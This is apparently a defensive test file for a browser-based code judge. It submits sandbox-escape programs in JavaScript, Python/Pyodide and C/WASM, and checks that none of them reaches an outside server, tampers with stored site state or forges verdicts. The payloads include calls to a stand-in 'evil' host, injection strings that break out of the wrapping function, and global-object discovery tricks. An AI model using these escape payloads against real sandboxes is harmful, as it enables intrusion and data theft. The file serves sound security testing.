/* Programs that try to get out of the page judge: to reach what the site keeps, other visits, the programs after them, or
   the page itself. What each may get is said here; nothing may come of it. All are for stone-game-6. */
import http from 'node:http';
import {once} from 'node:events';
import {demand} from './browsers.mjs';
import {ANSWER, C, JS, PY} from './trials.mjs';

/* Tries whatever a script of a site can do with it; `evil` is a server of somebody else's. */
const ROB = evil => `
    const rob = async world => {
        const ways = [
            () => world.fetch('${evil}/fetch'), () => world.fetch('index.html'), () => world.importScripts('${evil}/import'),
            () => new world.WebSocket('${evil.replace('http', 'ws')}/socket'), () => new world.EventSource('${evil}/events'),
            () => new world.Worker('${evil}/worker'), () => new world.XMLHttpRequest().open('GET', '${evil}/xhr'),
            () => world.navigator.sendBeacon('${evil}/beacon'), () => import('${evil}/module.js'),
            () => import('data:text/javascript,globalThis.robbed = 1'),
            async () => (await world.caches.open('judge')).put('/robbed', new world.Response('robbed')),
            async () => { for (const name of await world.caches.keys()) await world.caches.delete(name); },
            () => world.indexedDB.open('robbed'), () => world.navigator.serviceWorker.register('sw.js?robbed'),
            () => new world.BroadcastChannel('judge').postMessage('robbed'), () => world.cookieStore.set('robbed', '1'),
            () => world.localStorage.setItem('robbed', 1), () => new world.Notification('robbed'),
            () => world.navigator.storage.getDirectory().then(top => top.getFileHandle('robbed', {create: true})),
            () => world.parent.postMessage({robbed: 1}, '*'), () => world.top.location.replace('${evil}/top'),
            () => world.postMessage({runs: Array(300).fill({verdict: 'AC', ms: 0, out: new Uint8Array([67, 89])})}),
            () => world.postMessage({progress: {done: 2 ** 60, total: -1}}), () => world.postMessage({cases: 'case x 1 1'}),
        ];
        for (const way of ways) try { await way(); } catch {}
    };
    rob(globalThis);`;

/* Each: what the verdict may be, language, program. */
const attacksOf = evil => {
    const rob = ROB(evil);
    const say = `${JS} console.log(${ANSWER});`;
    const imports = (module, name, type = 'int') => `__attribute__((import_module("${module}"), import_name("${name}"))) ${type
        } out(${type});\n${C('long long n; scanf("%lld", &n); out(0); puts("SK");')}`.replace(/^(.*)\n(#include .*\n#include .*\n)/,
        '$2$1\n');
    return [
        /* a text that closes what it is put into */
        [/^CE$/, 'javascript', `${say}\n}, false); (function () {`],
        [/^CE$/, 'javascript', `${say}\n}, false); ${rob} (function () {`],
        [/^CE$/, 'javascript', `${say}\n}\n${rob}\nfunction MainProgram() {`],
        [/^CE$/, 'javascript', `}\n{ ${rob} }\nvar postMessage, onmessage; function Object() {} function MainProgram() {${say}`],
        [/^CE$/, 'javascript', `*/ }; ${rob} function f() { /*`],
        [/^WA$/, 'javascript', `\`; } ${rob} { \``],
        [/^CE$|^--$/, 'javascript', `import fs from 'fs';\n}\n${rob}\nasync function MainProgram() {`],
        /* what the world has left */
        [/^AC$/, 'javascript', `${say} ${rob}`],
        [/^(AC|--)$/, 'javascript', `${say} const get = f => { try { return f.constructor('return this')(); } catch {} };
            ${rob} [() => {}, async () => {}, require, console.log, setTimeout, URL].forEach(f => rob(get(f) ?? {}));`],
        [/^(AC|--)$/, 'javascript', `${say} const found = []; Error.prepareStackTrace = (error, sites) => { found.push(
            ...sites.flatMap(site => [site.getThis(), site.getFunction()])); }; new Error().stack;
            ${rob} found.filter(Boolean).forEach(rob);`],
        [/^AC$/, 'javascript', `${say} ${rob} let f = arguments.callee; try { while ((f = f.caller)) rob(f.arguments[0] ?? {}); }
            catch {}`],
        [/^(AC|--)$/, 'javascript', `${say} ${rob} for (let one = performance; one; one = Object.getPrototypeOf(one))
            for (const name of Object.getOwnPropertyNames(one)) try { rob(Object(one[name]).constructor); } catch {}`],
        /* replies that are none */
        [/^(--|TLE)$/, 'javascript', `${say} Math.min = () => 2 ** 26;`],
        [/^--$/, 'javascript', `${say} Math.max = () => Infinity;`],
        [/^RE$/, 'javascript', `${say} throw new Error('x'.repeat(1e7));`],
        [/^TLE$/, 'javascript', 'performance.now = Date.now = () => 0; for (;;);'],
        /* Python: the JavaScript behind it */
        [/^--$/, 'python', `${PY}sys.meta_path[:] = [one for one in sys.meta_path if type(one).__name__ != "Hider"]\n`
            + 'import js\njs.Array.prototype.push = js.Array.prototype.unshift'],
        [/^--$/, 'python', `${PY}del sys.meta_path[0]\nimport importlib\nimportlib.import_module("pyodide_js").FS.unlink("/dev/stdin")`],
        [/^(--|WA|RE)$/, 'python', `${PY}import gc\nfor one in gc.get_objects():\n    if "Js" in type(one).__name__:\n        one.robbed = 1`],
        [/^(--|RE)$/, 'python', `${PY}import _pyodide_core\n_pyodide_core.run_js("1")`],
        [/^--$/, 'python', `${PY}open("/lib/heapq.py", "w").write("heappush = None")`],
        [/^--$/, 'python', `${PY}import os\nos.chdir("/dev")`],
        [/^--$/, 'python', `${PY}import ctypes\nctypes.pythonapi.Py_Exit(0)`],
        [/^(WA|RE)$/, 'python', `${PY}f = sys._getframe(1)\nf.f_globals["flush"] = f.f_globals["json"].dumps = lambda *all: "[0, null]"`],
        /* C: imports that are not on the list */
        [/^--$/, 'c', imports('constructor', 'getPrototypeOf')],
        [/^--$/, 'c', imports('env', 'constructor')],
        [/^--$/, 'c', imports('env', '__defineGetter__')],
        [/^--$/, 'c', imports('wasi_snapshot_preview1', 'constructor')],
    ];
};

/* What must be after them as it was before. */
const kept = page => page.evaluate(async () => {
    const names = (await caches.keys()).sort();
    const files = await Promise.all(names.map(async name => (await (await caches.open(name)).keys()).map(({url}) => url)));
    const workers = (await navigator.serviceWorker.getRegistrations()).map(({active, scope}) => `${active?.scriptURL} ${scope}`);
    return JSON.stringify([files.flat().filter(url => /robbed/.test(url)), workers, document.cookie,
        Object.keys(localStorage), (await indexedDB.databases()).map(({name}) => name), 'robbed' in globalThis,
        location.pathname, [].push.name]);
});

/* Own rules are a program, too. */
const RULES = `int out(int) __attribute__((import_module("constructor"), import_name("getPrototypeOf")));
#include "rules.h"
static void input(void) { out(0); }
const struct problem problem = {.rule = "-", .players = {"A", "B"}, .input = input};
`;
const ofRules = page => page.evaluate(async source => {
    const {compileRules} = await import(new URL(`${SITE}judge/judge.js`, location));
    const {module, said} = await compileRules(source, () => {});
    const [, machinery] = await loadRules();
    return module ? String(runRules([machinery, module], {name: 'mine.c', mode: 'about'}, () => {})) : said;
}, RULES);

/* The attacks, of some languages or all; behind each of them a program in its language is judged as ever. */
export async function checkAttacks(page, name, judge, asks) {
    let hits = '';
    const server = http.createServer(({url}, reply) => {
        hits += `${url} `;
        reply.writeHead(200, {'access-control-allow-origin': '*', 'content-type': 'text/javascript'}).end('');
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const attacks = attacksOf(`http://127.0.0.1:${server.address().port}`).filter(([, language]) => asks('attacks', language));
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => 0));
    const before = await kept(page);
    const right = {javascript: `${JS} console.log(${ANSWER});`, python: 'print("SK" if int(input()) == 5 else "?")',
        c: C(`long long n; scanf("%lld", &n); puts(${ANSWER});`)};
    for (const [wanted, language, source] of attacks) {
        const problem = 'stone-game-6';
        const {verdict, report} = await judge(page, {problem, language, source, input: '5'});
        demand(wanted.test(verdict), `${name}, ${language}: ${verdict}, not ${wanted}:\n${source.slice(0, 400)}\n${report}`);
        const next = await judge(page, {problem, language, source: right[language], input: '5'});
        demand(next.verdict === 'AC', `${name}, ${language}: ${next.verdict} after ${source.slice(0, 300)}\n${next.report}`);
        const after = await kept(page);
        demand(after === before, `${name}, ${language}: it has left ${after}, not ${before}:\n${source.slice(0, 300)}`);
    }
    if (asks('attacks', 'c')) {
        const said = await ofRules(page);
        demand(/LinkError|TypeError/.test(said), `${name}: rules that import of JavaScript: ${said}`);
    }
    demand(hits === '', `${name}: a stranger was asked for ${hits}`);
    server.close();
    console.log(`${name}: ${attacks.length} programs that try to get out`);
}
